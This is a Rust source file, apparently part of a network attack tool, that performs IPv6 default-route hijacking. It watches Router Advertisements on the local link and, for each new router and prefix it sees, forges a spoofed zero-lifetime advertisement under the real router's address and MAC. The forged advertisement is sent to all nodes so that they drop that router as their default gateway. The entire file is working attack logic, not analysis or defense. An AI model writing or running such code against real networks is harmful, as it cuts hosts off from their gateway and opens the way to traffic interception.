//! Default-route hijacking: answer every newly seen Router Advertisement
//! with a forged zero-lifetime copy, evicting the advertised router from
//! victims' default router lists.

use std::collections::HashSet;
use std::net::Ipv6Addr;

use nf_packet::ndp::{ALL_NODES_IP, ALL_NODES_MAC, ND_ROUTER_ADVERT, router_advert};
use nf_packet::parse::{EtherHeader, Ipv6Header, RA_FIXED_LEN, walk_ra_options};
use tracing::debug;

use crate::command::{Action, Responder};

/// Watches inbound Router Advertisements and forges one zero-lifetime reply
/// per `(router source address, advertised prefix)` pair.
#[derive(Default)]
pub struct HijackResponder {
    known: HashSet<(Ipv6Addr, Ipv6Addr)>,
}

impl HijackResponder {
    pub fn new() -> Self {
        Self::default()
    }
}

impl Responder for HijackResponder {
    fn on_frame(
        &mut self,
        _eth: &EtherHeader,
        ip6: &Ipv6Header,
        payload: &[u8],
    ) -> Option<Action> {
        if payload.len() < RA_FIXED_LEN || payload[0] != ND_ROUTER_ADVERT {
            return None;
        }
        let opts = walk_ra_options(&payload[RA_FIXED_LEN..]);
        let (prefix, prefix_len) = opts.prefix?;
        let router_mac = opts.source_lladdr?;

        // One reply per router/prefix pair
        if !self.known.insert((ip6.src, prefix)) {
            return None;
        }

        debug!(
            router = %ip6.src,
            prefix = %prefix,
            prefix_len,
            "observed new router advertisement, forging eviction"
        );

        let packet = router_advert(
            router_mac,
            ALL_NODES_MAC,
            ip6.src,
            ALL_NODES_IP,
            prefix,
            prefix_len,
            0,
            router_mac,
        );
        Some(Action { packet })
    }
}
